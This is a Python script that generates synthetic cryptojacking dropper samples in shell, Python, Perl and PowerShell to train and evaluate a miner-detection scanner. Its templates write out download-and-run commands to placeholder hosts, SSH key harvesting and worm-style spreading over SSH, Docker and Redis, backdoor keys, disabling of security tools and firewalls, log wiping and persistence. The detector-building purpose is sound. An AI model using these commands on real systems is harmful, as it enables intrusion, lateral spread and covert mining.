#!/usr/bin/env python3
"""Write SYNTHETIC cryptojacking droppers for training and measuring the
script score (scanner/script_score.c). They are never run and never enter
the repository: they go into the corpus cache.

    corpus-tools/gen_droppers.py [--cache DIR] [--count N] [--seed S]

writes DIR/scripts/positive/<style>/<style>-NNNN.<ext> (N per style,
default 150) and DIR/scripts/positive.tsv with the columns

    label  family  style  group  path

(label "dropper", group = the file itself: no two samples share a group).

Eight styles after the public dropper collections and write-ups (see
signatures/dropper_behaviour.yar for the sources of each fact); the code is
written here, in their manner, from pieces chosen at random so that
cross-validation by style means something: each sample takes three to
seven behaviour blocks of its style, in random order, with random names,
paths, hosts (TEST-NET ranges, example.net), variable names, comments and
ordinary admin filler lines between them. Most samples never name a miner;
a quarter end with a miner-like launch of a renamed binary.

  rocke-sh       killing rivals by name lists, agent removal, cron
  kinsing-sh     kill by CPU, renamed curl, /dev/tcp fallback, hidden stage
  teamtnt-bash   SSH key harvesting, Docker API spreading, history wiping
  redis-sh       Redis cron writes, scanners, firewall flush
  8220-sh        kill by port, rival users/keys/cron removal, watchdog off
  python         psutil kill by CPU, paramiko spreading, urllib stage
  perl           Outlaw-style: system() kill lists, LWP fetch, crontab
  powershell     Get-Process CPU kill, Defender off, IEX download, schtasks
"""
import argparse
import os
import random
import sys

R = random.Random()


def ip():
    return R.choice(["192.0.2.%d", "198.51.100.%d", "203.0.113.%d"]) % R.randint(2, 250)


def host():
    return R.choice([ip(), ip(), R.choice(["cdn", "img", "update", "dl", "static", "api"]) + str(R.randint(1, 99)) + ".example.net"])


def port():
    return str(R.choice([80, 80, 8080, 443, 8000, 3389, 5000, 9999]))


def word(n=None):
    n = n or R.randint(3, 9)
    return "".join(R.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(n))


def hidden():
    return "." + R.choice(["kthreadd", "ksoftirq", "dbus", "cache", "x", "ICE-unix", "sshd", word(), word(4)])


def tmpdir():
    return R.choice(["/tmp", "/var/tmp", "/dev/shm", "/tmp/.X11-unix", "/var/tmp/." + word(3)])


def url(path=None):
    return "http://%s:%s/%s" % (host(), port(), path or R.choice([word() + ".sh", word(), "b/" + word(), "x86_64", "i.sh", "s.sh"]))


def var():
    return R.choice(["", "_"]) + R.choice(["A", "B", "DIR", "BIN", "H", "LOC", "P", "SRV", "X", "PAY", "URL", word(3).upper()])


RIVALS = ["kdevtmpfsi", "kinsing", "kthreaddi", "sysupdate", "networkservice", "dbused", "kworkerds",
          "sustes", "zzh", "solr.sh", "watchbog", "sysguard", "phpguard", "ksoftirqds", "dbusex",
          "/tmp/.X11-unix/x", "bashirc", "biosetjenkins", "AliHids", "Loopback", "apaceha", "cryto",
          "mixnerdx", "performedl", "JnKihGjn", "irqba2anc1", "irqba5xnc1", "irqbnc1", "ir29xc1",
          "conns", "irqbalance", "crypto-pool", "minexmr", "XJnRj", "mgwsl", "pythno", "jweri",
          "lx26", "NXLAi", "BI5zj", "askdljlqw", "ddg.", "Guard.sh", "Donald", "NullCrew", "sshd.",
          "kthreadds", ".syslog", "atd2", "systemd-monitor", "ntpd.", "/usr/bin/.sshd", "bsd-port"]
PORTS = ["3333", "4444", "5555", "6666", "7777", "14444", "14433", "45700", "9999", "13531", "1414"]
AGENTS = ["aliyun-service", "AliYunDun", "AliYunDunUpdate", "aegis_cli", "aegis_update", "cloudmonitor",
          "YDService", "YDLive", "sgagent", "barad_agent", "bcm-agent", "hostguard", "CmsGoAgent"]
FILLER_SH = [
    'export PATH=$PATH:/bin:/usr/bin:/sbin:/usr/local/bin:/usr/sbin',
    'ulimit -n 65535', 'mkdir -p {d}', 'cd {d} || cd /tmp', 'echo "{w}" > /dev/null',
    'if [ "$(id -u)" -eq 0 ]; then {V}=/root; else {V}=$HOME; fi', 'sleep {n}',
    '{V}=$(uname -m)', 'ARCH=$(uname -m)', '[ -d {d} ] || mkdir -p {d}', '# {w} {w2}',
    'umask 022', 'touch {d}/.{w} 2>/dev/null', 'LC_ALL=C', 'trap "" 1 2 3 15',
]


def fill_sh():
    return R.choice(FILLER_SH).format(d=tmpdir(), w=word(), w2=word(), V=var(), n=R.randint(1, 30))


def sh_kill_names():
    names = R.sample(RIVALS, R.randint(8, 26))
    form = R.randint(0, 3)
    out = []
    for n in names:
        if form == 0:
            out.append("ps aux | grep -v grep | grep '%s' | awk '{print $2}' | xargs -I %% kill -9 %%" % n)
        elif form == 1:
            out.append("pkill -f %s" % n)
        elif form == 2:
            out.append("ps -ef|grep -v grep|grep %s|awk '{print $2}'|xargs kill -9" % n)
        else:
            out.append("killall -9 %s 2>/dev/null" % n.strip("/."))
    if R.random() < 0.4:
        out = ["for p in %s; do pkill -9 -f $p; done" % " ".join(names)]
    return out


def sh_kill_cpu():
    t = R.choice(["40.0", "50", "60.0", "65", "80", "30.5"])
    return [R.choice([
        "ps aux | grep -v grep | awk '{if($3>%s) print $2}' | xargs -r kill -9" % t,
        "ps aux --sort=-pcpu | awk 'NR>1{if($3>=%s)print $2}' | while read p; do kill -9 $p; done" % t,
        "for p in $(ps -eo pid,%%cpu --no-headers | awk '$2>%s{print $1}'); do kill -9 $p 2>/dev/null; done" % t,
    ])]


def sh_kill_ports():
    ps = R.sample(PORTS, R.randint(3, 7))
    if R.random() < 0.5:
        return ["for port in %s; do" % " ".join(ps),
                "  netstat -anp | grep :$port | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs -r kill -9",
                "done"]
    return ["netstat -antp | grep ':%s' | awk '{print $7}' | sed -e 's/\\/.*//g' | xargs kill -9" % p for p in ps]


def sh_cron_clean():
    out = []
    if R.random() < 0.7:
        out.append("chattr -%s /var/spool/cron/root /etc/crontab /var/spool/cron/crontabs/root 2>/dev/null" % R.choice(["i", "ia", "iua"]))
    out += R.sample([
        "crontab -r 2>/dev/null", "rm -rf /var/spool/cron/*", "rm -f /etc/cron.d/%s" % word(),
        "echo > /var/spool/cron/root", "sed -i '/%s/d' /etc/crontab" % R.choice(RIVALS).strip("/."),
        "rm -rf /etc/cron.hourly/%s" % word(), "cat /dev/null > /etc/crontab",
    ], R.randint(2, 4))
    return out


def sh_users_keys():
    out = []
    if R.random() < 0.6:
        out.append("chattr -ia /root/.ssh/authorized_keys 2>/dev/null")
    out += R.sample([
        "userdel -r -f %s 2>/dev/null" % R.choice(["akay", "darmok", "cokkokotre1", "hilde", "ftpuser", "system", "guest1"]),
        "sed -i '/%s/d' /root/.ssh/authorized_keys" % R.choice(["redis", "sysadm", "root@" + word()]),
        "rm -f /root/.ssh/authorized_keys2", "echo > /root/.ssh/authorized_keys",
        "deluser --remove-home %s 2>/dev/null" % word(),
    ], R.randint(1, 3))
    if R.random() < 0.5:
        out.append('echo "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC%s %s" >> /root/.ssh/authorized_keys' % (word(40), word()))
        out.append("chattr +i /root/.ssh/authorized_keys")
    return out


def sh_defense():
    return R.sample([
        "setenforce 0 2>/dev/null",
        "echo SELINUX=disabled > /etc/selinux/config",
        "sed -i 's/SELINUX=enforcing/SELINUX=disabled/g' /etc/selinux/config",
        "service apparmor stop", "systemctl disable apparmor", "ufw disable", "iptables -F", "iptables -X",
        "systemctl stop firewalld", "sysctl kernel.nmi_watchdog=0",
        "echo '0' >/proc/sys/kernel/nmi_watchdog", "echo 'kernel.nmi_watchdog=0' >>/etc/sysctl.conf",
    ], R.randint(2, 6))


def sh_agents():
    out = R.sample([
        "curl -s http://update.aegis.aliyun.com/download/uninstall.sh | bash",
        "/usr/local/qcloud/stargate/admin/uninstall.sh", "/usr/local/qcloud/YunJing/uninst.sh",
        "rm -rf /usr/local/aegis", "systemctl stop aliyun.service", "systemctl disable aliyun.service",
        "rm -rf /usr/local/cloudmonitor", "/etc/init.d/cloudmonitor stop", "rm -rf /opt/bcm-agent",
    ], R.randint(2, 4))
    out += ["pkill -9 %s" % a for a in R.sample(AGENTS, R.randint(2, 5))]
    return out


def sh_wipe():
    return R.sample([
        "history -c", "unset HISTFILE", "export HISTFILE=/dev/null", "export HISTSIZE=0",
        "rm -rf ~/.bash_history", "echo > /var/log/wtmp", "echo > /var/log/secure", "cat /dev/null > /var/log/auth.log",
        "rm -rf /var/log/syslog", "echo > /var/log/lastlog", "cat /dev/null > ~/.bash_history",
    ], R.randint(2, 5))


def sh_fetch_fn():
    f = R.choice(["get", "dl", "_download", "fetch", "__curl", word(4)])
    u = var()
    return [
        "%s() {" % f,
        "  read proto server path <<< \"${1//// }\"",
        "  DOC=/${path// //}", "  HOST=${server//:*}", "  PORT=${server//*:}", "  [[ x\"${HOST}\" == x\"${PORT}\" ]] && PORT=80",
        "  exec 3<>/dev/tcp/${HOST}/$PORT",
        "  echo -en \"GET ${DOC} HTTP/1.0\\r\\nHost: ${HOST}\\r\\n\\r\\n\" >&3",
        "  (while read line; do [[ \"$line\" == $'\\r' ]] && break; done && cat) <&3",
        "  exec 3>&-", "}",
        "%s=%s" % (u, url()),
        "%s $%s > %s/%s" % (f, u, tmpdir(), hidden()),
    ]


def sh_renamed_curl():
    a, b = R.choice([("cd1", "wd1"), ("cur", "wge"), ("xcurl", "xwget"), (word(3), word(3))])
    d = R.choice(["/usr/bin/", "/bin/", "/tmp/", "/var/tmp/"])
    return ["cp /usr/bin/curl %s%s 2>/dev/null || cp /bin/curl %s%s" % (d, a, d, a),
            "mv /usr/bin/wget %s%s 2>/dev/null" % (d, b),
            "%s%s -fsSL %s | sh || %s%s -q -O- %s | sh" % (d, a, url(), d, b, url())]


def sh_stage():
    d, h = tmpdir(), hidden()
    p = "%s/%s" % (d, h)
    dl = R.choice(["curl -fsSL %s -o %s" % (url(), p), "wget -q %s -O %s" % (url(), p),
                   "curl -s %s > %s" % (url(), p)])
    run = R.choice(["nohup %s >/dev/null 2>&1 &" % p, "%s &" % p, "setsid %s >/dev/null 2>&1 &" % p,
                    "cd %s && ./%s" % (d, h)])
    return [dl, "chmod %s %s" % (R.choice(["+x", "777", "755"]), p), run]


def sh_cron_persist():
    u = url()
    line = R.choice(["*/%d * * * * (curl -fsSL %s||wget -q -O- %s)|sh" % (R.randint(1, 30), u, u),
                     "*/%d * * * * root curl -s %s | bash > /dev/null 2>&1" % (R.randint(1, 30), u),
                     "@reboot %s/%s" % (tmpdir(), hidden())])
    return [R.choice(['(crontab -l 2>/dev/null; echo "%s") | crontab -' % line,
                      'echo "%s" > /etc/cron.d/%s' % (line, R.choice(["root", "apache", "nginx", word()])),
                      'echo "%s" >> /var/spool/cron/root' % line])]


def sh_ssh_spread():
    return [
        "KEYS=$(find ~/ /root /home -maxdepth %d -name 'id_rsa*' | grep -vw pub)" % R.randint(2, 4),
        "KEYS2=$(cat ~/.ssh/config /home/*/.ssh/config /root/.ssh/config 2>/dev/null | grep IdentityFile | awk -F 'IdentityFile' '{print $2}')",
        "HOSTS=$(cat ~/.ssh/known_hosts /home/*/.ssh/known_hosts /root/.ssh/known_hosts 2>/dev/null | grep -oP '([0-9]{1,3}\\.){3}[0-9]{1,3}')",
        "HOSTS2=$(cat ~/.bash_history /home/*/.bash_history 2>/dev/null | grep -E '(ssh|scp)' | grep -oP '([0-9]{1,3}\\.){3}[0-9]{1,3}')",
        "for h in $HOSTS $HOSTS2; do for k in $KEYS $KEYS2; do",
        "  chmod +r $k; ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=%d -i $k root@$h \"(curl -fsSL %s||wget -q -O- %s)|sh\" &" % (R.randint(3, 10), url(), url()),
        "done; done",
    ]


def sh_docker_spread():
    return [
        "masscan %s/%d -p%s --rate=%d -oL %s/.%s" % (ip(), R.choice([8, 16, 24]), R.choice(["2375", "2375,2376", "2375,10250"]), R.choice([10000, 50000, 100000]), tmpdir(), word()),
        "for i in $(awk '{print $4}' %s/.%s); do" % (tmpdir(), word()),
        "  timeout 10 docker -H tcp://$i:2375 run -d --privileged --net host -v /:/mnt alpine chroot /mnt sh -c \"curl -s %s | sh\"" % url(),
        "done",
    ]


def sh_redis_spread():
    u = url()
    return [
        "pnscan -t%d %s/16 6379 > .r.%s" % (R.randint(200, 900), ip(), word(3)),
        "for ip in $(grep Redis .r.* | awk '{print $1}'); do",
        "  redis-cli -h $ip -p 6379 set %s \"\\n\\n*/1 * * * * curl -fsSL %s | sh\\n\\n\"" % (word(), u),
        "  redis-cli -h $ip -p 6379 config set dir /var/spool/cron",
        "  redis-cli -h $ip -p 6379 config set dbfilename root",
        "  redis-cli -h $ip -p 6379 save",
        "done",
    ]


def sh_tune():
    return R.sample(["sysctl -w vm.nr_hugepages=%d" % R.choice([128, 1024, 1280]), "modprobe msr",
                     "echo %d > /proc/sys/vm/nr_hugepages" % R.choice([128, 1280]),
                     "wrmsr -a 0x1a4 0xf"], R.randint(1, 3))


def sh_launch():
    p = "%s/%s" % (tmpdir(), hidden())
    return ["nohup %s -o %s:%s -u 4%s -p %s -k --cpu-max-threads-hint=%d >/dev/null 2>&1 &"
            % (p, host(), R.choice(PORTS), word(60), word(4), R.choice([50, 75, 100]))]


def ps_kill_cpu():
    return [R.choice([
        "Get-Process | Where-Object { $_.CPU -gt %d -and $_.Id -ne $PID } | Stop-Process -Force" % R.randint(30, 200),
        "foreach ($p in Get-Process) { if ($p.CPU -gt %d) { Stop-Process -Id $p.Id -Force -ErrorAction SilentlyContinue } }" % R.randint(30, 200),
    ])]


def ps_kill_names():
    ns = R.sample(["kthreaddi", "sysupdate", "svchosts", "wuauclt32", "csrss32", "taskhostw32", "lsmosee", "MsDtc32", word()], R.randint(3, 7))
    if R.random() < 0.5:
        return ["taskkill /f /im %s.exe 2>$null" % n for n in ns]
    return ["Get-Process -Name %s -ErrorAction SilentlyContinue | Stop-Process -Force" % ",".join(ns)]


def ps_defense():
    return R.sample([
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "Set-MpPreference -DisableIOAVProtection $true",
        "Set-MpPreference -DisableBehaviorMonitoring $true",
        "Add-MpPreference -ExclusionPath \"$env:%s\"" % R.choice(["TEMP", "APPDATA", "ProgramData", "SystemRoot"]),
        "Add-MpPreference -ExclusionProcess \"%s.exe\"" % word(),
        "netsh advfirewall set allprofiles state off",
        "netsh firewall set opmode mode=disable",
    ], R.randint(2, 5))


def ps_wipe():
    return R.sample(["wevtutil cl System", "wevtutil cl Security", "wevtutil cl Application",
                     "Clear-EventLog -LogName Application,System",
                     "Remove-Item (Get-PSReadlineOption).HistorySavePath -ErrorAction SilentlyContinue"], R.randint(1, 3))


def ps_fetch():
    v = "$" + word(4)
    u = url(word() + R.choice([".ps1", ".exe", ".txt"]))
    return R.sample([
        "IEX (New-Object Net.WebClient).DownloadString('%s')" % u,
        "%s = \"$env:TEMP\\%s.exe\"; (New-Object Net.WebClient).DownloadFile('%s', %s); Start-Process %s -WindowStyle Hidden" % (v, word(), u, v, v),
        "Invoke-WebRequest -Uri '%s' -OutFile \"$env:APPDATA\\%s.exe\"; Start-Process \"$env:APPDATA\\%s.exe\" -WindowStyle Hidden" % (u, word(), word()),
        "powershell -nop -w hidden -enc %s" % "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789") for _ in range(R.randint(80, 300))),
    ], R.randint(1, 2))


def ps_tasks():
    return R.sample([
        "schtasks /delete /tn \"%s\" /f" % R.choice(["Update", "Microsoft Telemetry", "GoogleUpdateTask", word()]),
        "Get-ScheduledTask | Where-Object {$_.TaskName -like '*%s*'} | Unregister-ScheduledTask -Confirm:$false" % word(4),
        "schtasks /create /tn \"%s\" /tr \"powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString('%s')\" /sc minute /mo %d /f" % (word(), url(), R.randint(5, 60)),
    ], R.randint(1, 3))


def py_kill_cpu():
    return ["for p in psutil.process_iter(['pid', 'name']):",
            "    try:",
            "        if p.cpu_percent(interval=%s) > %d and p.pid != os.getpid():" % (R.choice(["0.1", "0.5", "1"]), R.randint(30, 80)),
            "            p.kill()",
            "    except Exception:",
            "        pass"]


def py_kill_names():
    ns = R.sample(RIVALS, R.randint(6, 15))
    return ["%s = %r" % (w := word(5), ns),
            "for n in %s:" % w,
            "    subprocess.call('pkill -9 -f ' + n, shell=True, stderr=subprocess.DEVNULL)"]


def py_shell_block(lines):
    f = R.choice(["os.system", "subprocess.call"])
    return ["%s(%r%s)" % (f, l, ", shell=True" if f == "subprocess.call" else "") for l in lines]


def py_spread():
    return ["import paramiko",
            "hosts = re.findall(r'(\\d+\\.\\d+\\.\\d+\\.\\d+)', open(os.path.expanduser('~/.ssh/known_hosts')).read())",
            "keys = [os.path.join(d, f) for d in ['/root/.ssh', os.path.expanduser('~/.ssh')] for f in ('id_rsa', 'id_ed25519')]",
            "for h in hosts:",
            "    for k in keys:",
            "        try:",
            "            c = paramiko.SSHClient()",
            "            c.set_missing_host_key_policy(paramiko.AutoAddPolicy())",
            "            c.connect(h, username='root', key_filename=k, timeout=%d)" % R.randint(3, 10),
            "            c.exec_command('curl -fsSL %s | sh')" % url(),
            "        except Exception:",
            "            continue"]


def py_stage():
    p = "%s/%s" % (tmpdir(), hidden())
    return [R.choice(["urllib.request.urlretrieve('%s', '%s')" % (url(), p),
                      "open('%s', 'wb').write(urllib.request.urlopen('%s').read())" % (p, url()),
                      "open('%s', 'wb').write(requests.get('%s').content)" % (p, url())]),
            "os.chmod('%s', 0o755)" % p,
            "subprocess.Popen(['%s'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)" % p]


def pl_system(lines):
    return ["system(\"%s\");" % l.replace('"', '\\"').replace("$", "\\$").replace("@", "\\@") for l in lines]


def pl_fetch():
    p = "%s/%s" % (tmpdir(), hidden())
    return ["use LWP::Simple;", "getstore('%s', '%s');" % (url(), p), "chmod 0755, '%s';" % p,
            "system('nohup %s >/dev/null 2>&1 &');" % p]


def pl_socket():
    return ["use IO::Socket::INET;",
            "my $s = IO::Socket::INET->new(PeerAddr => '%s', PeerPort => %s, Proto => 'tcp');" % (host(), port()),
            "print $s \"GET /%s HTTP/1.0\\r\\nHost: %s\\r\\n\\r\\n\";" % (word(), host()),
            "open(my $f, '>', '%s/%s'); while (<$s>) { print $f $_; } close($f);" % (tmpdir(), hidden())]


def pl_kill_list():
    ns = R.sample(RIVALS, R.randint(6, 16))
    return ["my @k = qw(%s);" % " ".join(n.replace("/", "") for n in ns),
            "foreach my $n (@k) { system(\"pkill -9 -f $n 2>/dev/null\"); }"]


def shell_style(blocks, tail_prob=0.25):
    def gen():
        ks = R.sample(blocks, R.randint(3, min(7, len(blocks))))
        out = [R.choice(["#!/bin/sh", "#!/bin/bash", "#!/usr/bin/env bash", "#!/bin/sh"])]
        for b in ks:
            for _ in range(R.randint(0, 3)):
                out.append(fill_sh())
            lines = b()
            if R.random() < 0.3:
                fn = R.choice(["", "_"]) + word(R.randint(3, 8))
                lines = ["%s() {" % fn] + ["  " + l for l in lines] + ["}", fn]
            out += lines
        if R.random() < tail_prob:
            out += sh_launch()
        return "\n".join(out) + "\n"
    return gen


def python_style():
    ks = R.sample([py_kill_cpu, py_kill_names, py_spread, py_stage,
                   lambda: py_shell_block(sh_defense()), lambda: py_shell_block(sh_wipe()),
                   lambda: py_shell_block(sh_cron_clean()), lambda: py_shell_block(sh_cron_persist())], R.randint(3, 6))
    out = [R.choice(["#!/usr/bin/env python3", "#!/usr/bin/python", "#!/usr/bin/env python"]),
           "import os, re, subprocess, sys, time", R.choice(["import urllib.request", "import requests", "import urllib.request, requests"])]
    if py_kill_cpu in ks:
        out.append("import psutil")
    out += ["", "def %s():" % (fn := word(6))]
    for b in ks:
        out += ["    " + l for l in b()]
        if R.random() < 0.5:
            out.append("    time.sleep(%d)" % R.randint(1, 9))
    out += ["", "if __name__ == '__main__':", "    %s()" % fn]
    return "\n".join(out) + "\n"


def perl_style():
    ks = R.sample([pl_fetch, pl_socket, pl_kill_list, lambda: pl_system(sh_kill_names()[:6]),
                   lambda: pl_system(sh_defense()), lambda: pl_system(sh_wipe()),
                   lambda: pl_system(sh_cron_clean()), lambda: pl_system(sh_cron_persist()),
                   lambda: pl_system(sh_users_keys())], R.randint(3, 6))
    out = ["#!/usr/bin/perl", "use strict;", R.choice(["use warnings;", "# " + word()]),
           "$SIG{'INT'} = 'IGNORE'; $SIG{'HUP'} = 'IGNORE'; $SIG{'TERM'} = 'IGNORE';"]
    for b in ks:
        out += b()
    return "\n".join(out) + "\n"


def powershell_style():
    ks = R.sample([ps_kill_cpu, ps_kill_names, ps_defense, ps_wipe, ps_fetch, ps_tasks], R.randint(3, 6))
    out = [R.choice(["$ErrorActionPreference = 'SilentlyContinue'", "# " + word(), "Set-StrictMode -Off"])]
    for b in ks:
        if R.random() < 0.3:
            out.append("$%s = %d" % (word(4), R.randint(1, 100)))
        out += b()
    return "\n".join(out) + "\n"


STYLES = {
    # style: (family, extension, generator)
    "rocke-sh": ("rocke", "sh", shell_style([sh_kill_names, sh_agents, sh_cron_clean, sh_cron_persist, sh_stage, sh_wipe, sh_defense])),
    "kinsing-sh": ("kinsing", "sh", shell_style([sh_kill_cpu, sh_renamed_curl, sh_fetch_fn, sh_stage, sh_defense, sh_wipe, sh_cron_persist])),
    "teamtnt-bash": ("teamtnt", "sh", shell_style([sh_ssh_spread, sh_docker_spread, sh_wipe, sh_stage, sh_kill_names, sh_users_keys, sh_tune])),
    "redis-sh": ("redis-worm", "sh", shell_style([sh_redis_spread, sh_defense, sh_wipe, sh_cron_persist, sh_kill_cpu, sh_stage])),
    "8220-sh": ("8220", "sh", shell_style([sh_kill_ports, sh_users_keys, sh_cron_clean, sh_defense, sh_stage, sh_kill_names, sh_tune])),
    "python": ("py-dropper", "py", python_style),
    "perl": ("outlaw-perl", "pl", perl_style),
    "powershell": ("ps-dropper", "ps1", powershell_style),
}


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--cache", default=os.path.join(os.environ.get("XDG_CACHE_HOME") or os.path.expanduser("~/.cache"), "minerscan-corpus"))
    ap.add_argument("--count", type=int, default=150)
    ap.add_argument("--seed", type=int, default=20240610)
    a = ap.parse_args()
    R.seed(a.seed)
    root = os.path.join(a.cache, "scripts", "positive")
    rows = []
    for style, (family, ext, gen) in STYLES.items():
        d = os.path.join(root, style)
        os.makedirs(d, exist_ok=True)
        for i in range(a.count):
            p = os.path.join(d, "%s-%04d.%s" % (style, i, ext))
            with open(p, "w") as f:
                f.write(gen())
            os.chmod(p, 0o644)
            rows.append("dropper\t%s\t%s\t%s-%04d\t%s" % (family, style, style, i, p))
    with open(os.path.join(a.cache, "scripts", "positive.tsv"), "w") as f:
        f.write("# label\tfamily\tstyle\tgroup\tpath (corpus-tools/gen_droppers.py --seed %d)\n" % a.seed)
        f.write("\n".join(rows) + "\n")
    sys.stderr.write("gen_droppers: %d samples in %s\n" % (len(rows), root))


if __name__ == "__main__":
    main()
